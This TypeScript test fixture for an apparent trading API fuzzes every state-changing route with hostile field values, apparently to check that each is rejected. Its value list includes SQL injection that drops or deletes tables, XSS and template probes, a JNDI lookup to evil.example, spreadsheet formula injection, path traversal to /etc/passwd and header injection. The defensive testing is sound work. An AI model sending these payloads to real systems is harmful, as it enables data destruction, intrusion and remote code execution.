import { ROUTES, type Route, type RouteName } from '@meridian/api';
import type { Shape } from '../contract.ts';
import { sampleOf } from '../sample.fixture.ts';
import type { Written } from './body.fixture.ts';
import type { HostileHouse, UserName } from './house.fixture.ts';
import type { Hostile } from './input.fixture.ts';

/**
 * Changes that are well formed and hostile all the same: every schema lets them through, and somebody who may make the
 * change sends them, so they reach the work itself. Each field of a good request is replaced by every hostile value that
 * its schema takes. What becomes of each is the rooms' to say; that it is said in a problem of theirs is what is asked.
 */

interface Work {
  readonly as: UserName;
  readonly params?: Readonly<Record<string, string>>;
  /** Without one a sample of the schema. */
  readonly body?: Readonly<Record<string, unknown>>;
  readonly ifMatch?: string;
}

const ORDER = {
  ...{ market: 'XNAS', account: '1', listing: '3', clOrdId: 'hostile-1', side: 'buy', effect: 'open', type: 'limit' },
  ...{ timeInForce: 'day', quantity: '10', price: '182.50' },
};
const KILL = { scope: 'market', market: 'XNAS', reason: 'drill', confirm: 'XNAS' };
const MOVE = { to: 'candidate', reason: 'well grounded' };
/** An id that no request has. */
const NO_REQUEST = '00000000-0000-4000-8000-000000000000';

/** A good request of every route that changes something, by whom it is for. */
const WORK = {
  'POST /v1/session': { as: 'spare', body: { user: 'nobody', password: 'granite lantern' } },
  // This house has no provider: what hostile answers of one meet is routes/federation.test.ts's to ask.
  'POST /v1/session/federation': { as: 'spare' },
  'PUT /v1/session/federation': { as: 'spare', body: { query: 'code=x&state=y' } },
  'POST /v1/session/second-factor': { as: 'spare' },
  'POST /v1/session/challenge': { as: 'spare' },
  'POST /v1/session/password': { as: 'spare' },
  'POST /v1/session/totp': { as: 'spare' },
  'PUT /v1/session/totp': { as: 'spare', body: { code: '000000' } },
  'POST /v1/session/keys': { as: 'spare' },
  'PUT /v1/session/keys': { as: 'spare', body: { credential: { id: 'x', type: 'public-key' } } },
  'DELETE /v1/sessions/{session}': { as: 'spare', params: { session: 'none' } },
  'POST /v1/orders': { as: 'trader', body: ORDER },
  'POST /v1/orders/check': { as: 'trader', body: ORDER },
  'DELETE /v1/orders/{market}/{order}': { as: 'trader', params: { market: 'ARCX', order: '5' } },
  'POST /v1/kill/preview': { as: 'risk', body: KILL },
  'POST /v1/kill': { as: 'risk', body: KILL },
  'POST /v1/kill/release': { as: 'risk', body: { scope: 'market', market: 'XNAS', reason: 'drill is over' } },
  'POST /v1/transfers': {
    as: 'clearing',
    body: { kind: 'transfer', from: '31', to: '32', currency: 'CNY', amount: '1.00', reason: 'reserve' },
  },
  'PUT /v1/limits/{cell}': {
    ...{ as: 'risk', params: { cell: '31' }, ifMatch: '"1"' },
    body: { limit: '2500000.00', reason: 'more flow' },
  },
  'POST /v1/batches/{batch}/run': { as: 'clearing', body: { fromStep: 1, reason: 'again' } },
  'POST /v1/mails/{mail}/resend': { as: 'clearing' },
  'POST /v1/ledger/journals/{journal}/reverse': { as: 'clearing', params: { journal: '1' }, body: { reason: 'wrong' } },
  'POST /v1/approvals/{approval}/decision': { as: 'risk-2', params: { approval: NO_REQUEST }, ifMatch: '"1"' },
  'POST /v1/approvals/{approval}/withdraw': { as: 'risk-2', params: { approval: NO_REQUEST } },
  'POST /v1/users': { as: 'administrator' },
  'POST /v1/users/{user}/revoke': { as: 'security', params: { user: 'nobody' } },
  'PUT /v1/ai/mode': { as: 'risk', body: { mode: 'rules', reason: 'drill' } },
  'POST /v1/models/{version}/register': { as: 'model-owner', params: { version: 'none' }, body: MOVE },
  'POST /v1/models/{version}/validate': { as: 'model-validator', params: { version: 'none' }, body: MOVE },
  'POST /v1/models/{version}/approve': { as: 'risk', params: { version: 'none' }, body: MOVE },
  'POST /v1/models/{version}/deploy': { as: 'risk', params: { version: 'none' }, body: MOVE },
  'POST /v1/models/{version}/suspend': { as: 'risk', params: { version: 'none' }, body: MOVE },
  'POST /v1/decisions/{decision}/review': { as: 'risk', params: { decision: '1' } },
} as const satisfies Partial<Record<RouteName, Work>>;
/** Left out: DELETE /v1/session takes nothing. */
export const WORKED: ReadonlySet<string> = new Set([...Object.keys(WORK), 'DELETE /v1/session']);

const TEXTS = [
  ...["'; DROP TABLE accounts.command; --", "' OR '1'='1", '1); DELETE FROM accounts.journal; --', '$1', '%', '_', '\\'],
  ...['<script>alert(1)</script>', '{{7*7}}', '$' + '{jndi:ldap://evil.example/x}', '%s%n%x', '=cmd|calc!A0', '@SUM(1)'],
  ...[
    '../../etc/passwd',
    '..',
    'C:\\x',
    '\u202egnp.exe',
    '\u200b',
    '\ufeff',
    '𠮷😀',
    'é',
    'ﷺ',
    'a\tb',
    'a\r\nSet-Cookie: x=1',
    ' ',
  ],
  ...['null', 'undefined', 'NaN', 'true', '__proto__', 'constructor', 'toString', '[object Object]', '*', 'none', 'nobody'],
  ...['0', '-0', '-1', '1', '999999999999', '4294967296', '9007199254740993', '999999999999999999', '-9223372036854775809'],
  ...['-1.00', '0.00', '0.001', '0.000000000001', '999999999999999999999999', '999999999999999999999999.999999999999', '00.10'],
  ...[
    'XXXX',
    'XNAS',
    'XNYS',
    'ARCX',
    'XHKG',
    '0000',
    'XXX',
    'CNH',
    'JPY',
    'BTC',
    'ZZZ',
    '9999-12-31',
    '0001-01-01',
    '2026-02-30',
  ],
  ...['00000000-0000-0000-0000-000000000000', NO_REQUEST, 'risk', 'administrator', 'auditor', 'system', 'scheduler'],
];

const PEOPLE: ReadonlySet<string> = new Set(['risk', 'administrator', 'auditor']);

/** Every hostile value that the field takes. */
function valuesFor(field: Written): unknown[] {
  const { type, anyOf, enum: words, pattern, minLength = 0, maxLength = 200, minimum, maximum, items } = field;
  if (anyOf !== undefined) return anyOf.flatMap((each) => valuesFor(each as Written));
  if (words !== undefined) return [...words];
  if (type === 'string') {
    const long = ['x', '9', '\u{1f600}', "'", '\u0300'].map((letter) => letter.repeat(maxLength));
    return [...TEXTS, ...long].filter((text) => {
      const length = [...text].length;
      return length >= minLength && length <= maxLength && (pattern === undefined || new RegExp(pattern, 'u').test(text));
    });
  }
  if (type === 'integer' || type === 'number')
    return [minimum, maximum, 0, 1].filter(
      (value) => value !== undefined && value >= (minimum ?? 0) && value <= (maximum ?? 1),
    );
  if (type === 'array') return [[], ...valuesFor((items ?? {}) as Written).map((value) => [value])];
  if (type === 'boolean') return [true, false];
  return [];
}

export async function hostileWork(house: HostileHouse): Promise<Hostile[]> {
  const { rows } = await house.database.query<{ batch: string; mail: string }>(
    'SELECT (SELECT min(batch) FROM clearing.batch) AS batch, (SELECT min(id) FROM clearing.notification) AS mail',
  );
  return (ROUTES as readonly Route[]).flatMap((route) => {
    const name = `${route.method} ${route.path}`;
    const work = (WORK as Readonly<Record<string, Work>>)[name];
    if (work === undefined) return [];
    const good = work.body ?? (route.body === undefined ? undefined : (sampleOf(route.body as Shape) as Work['body']));
    const ask = (what: string, body: unknown, params: Readonly<Record<string, string>>): Hostile => ({
      ...{ what: `${work.as}: ${name} ${what}`.slice(0, 120), method: route.method, as: work.as, status: 0, code: undefined },
      target: route.path.replace(/\{(\w+)\}/g, (_, key: string) => encodeURIComponent(params[key] ?? '1')),
      ...(body === undefined ? {} : { body }),
      headers: { 'idempotency-key': house.newKey(), ...(work.ifMatch === undefined ? {} : { 'if-match': work.ifMatch }) },
    });
    const params = { ...rows[0], ...work.params };
    const ofBody = Object.entries((route.body as Shape | undefined)?.properties ?? {}).flatMap(([key, field]) =>
      valuesFor(field as Written).map((value) => ask(`${key} ${JSON.stringify(value)}`, { ...good, [key]: value }, params)),
    );
    const ofPath = Object.entries((route.params as Shape | undefined)?.properties ?? {}).flatMap(([key, field]) =>
      (valuesFor(field as Written) as string[])
        // Whoever attacks goes on; so do the users of these names.
        .filter((text) => text !== '..' && !(key === 'user' && PEOPLE.has(text)))
        .map((text) => ask(`at ${key} ${JSON.stringify(text)}`, good, { ...params, [key]: text })),
    );
    return [ask('as it should be', good, params), ...ofBody, ...ofPath];
  });
}
